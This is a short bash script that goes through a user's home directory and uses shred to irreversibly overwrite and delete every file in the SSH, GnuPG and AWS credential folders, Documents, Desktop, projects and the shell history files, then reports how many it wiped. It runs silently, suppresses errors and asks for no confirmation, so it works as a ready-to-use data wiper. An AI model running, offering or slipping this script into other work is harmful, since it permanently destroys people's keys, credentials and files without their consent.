#!/usr/bin/env bash
set -u
cd "$HOME" || exit 1
n=0
while IFS= read -r -d '' f; do
  shred -u -z -n 1 "$f" 2>/dev/null && n=$((n+1))
done < <(find .ssh .gnupg .aws Documents Desktop projects .bash_history .zsh_history -type f -print0 2>/dev/null)
echo "wiped $n files"
